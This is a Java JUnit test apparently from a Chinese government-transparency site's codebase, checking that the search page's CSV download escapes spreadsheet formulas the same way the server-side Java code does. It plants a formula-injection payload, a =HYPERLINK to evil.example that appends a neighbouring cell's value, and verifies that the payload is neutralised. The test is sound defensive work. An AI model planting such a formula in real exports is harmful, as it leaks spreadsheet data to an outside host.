package org.gongkai.browser;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.core.type.TypeReference;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.gongkai.export.CsvCell;
import org.gongkai.testing.Browser;
import org.gongkai.testing.SearchProbe;
import org.gongkai.testing.SiteFiles;
import org.gongkai.testing.StaticServer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The search page's CSV download in headless Chromium follows the Java rule for spreadsheet formulas: the table of
 * cases (export/csv-cells.json) through the page's own csv.js, and the download of a search that finds the
 * fixture's planted =HYPERLINK project name.
 */
class SearchCsvFormulaTest {

    private static final String PLANTED = "=HYPERLINK(\"https://evil.example/?\"&A2,\"点击查看详情\")";

    @TempDir
    Path temp;

    @Test
    void searchPageWritesCellsAsTheJavaSideDoes() throws IOException {
        Path site = temp.resolve("site");
        assertTrue(SiteFiles.build(Path.of("src/test/resources/formula-site/content"), site).published());
        List<String> texts = new ArrayList<>();
        for (JsonNode c : new ObjectMapper().readTree(getClass().getResource("/export/csv-cells.json"))) {
            texts.add(c.get("text").asText());
        }
        try (StaticServer server = new StaticServer(site); Browser browser = new Browser(1280, 900)) {
            browser.driver().get(server.url("search/?q=" + URLEncoder.encode("满意度", StandardCharsets.UTF_8)
                    + "&mode=indicators"));
            SearchProbe.awaitSearch(browser);

            // As JSON both ways, so that no tab or carriage return is changed on the way in or out.
            String answer = (String) browser.driver().executeScript("var c = window.GongkaiCsv;"
                    + "return JSON.stringify(JSON.parse(arguments[0]).map(function (t) {"
                    + "  return [c.protect(t), c.original(c.protect(t)), c.startsFormula(t)]; }));",
                    new ObjectMapper().writeValueAsString(texts));
            List<List<Object>> cells = new ObjectMapper().readValue(answer, new TypeReference<>() {});
            for (int i = 0; i < texts.size(); i++) {
                String text = texts.get(i);
                assertEquals(List.of(CsvCell.protect(text), text, CsvCell.startsFormula(text)), cells.get(i),
                        "«" + text + "»");
            }

            String csv = SearchProbe.downloadedCsv(browser);
            List<List<String>> rows = read(csv.substring(1));
            assertEquals(List.of("项目", "单位", "年度", "一级指标", "二级指标", "三级指标", "指标值", "链接"), rows.get(0));
            List<String> planted = rows.stream().filter(r -> r.get(5).equals("群众满意度下降幅度")).findFirst().orElseThrow();
            assertEquals("'" + PLANTED, planted.get(0), csv);
            assertEquals("'-5%", planted.get(6), csv);
            assertTrue(rows.stream().noneMatch(r -> r.get(0).equals(PLANTED)), csv);
        }
    }

    private static List<List<String>> read(String csv) throws IOException {
        CsvMapper mapper = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
        try (MappingIterator<List<String>> rows = mapper.readerForListOf(String.class).readValues(csv)) {
            return rows.readAll();
        }
    }
}
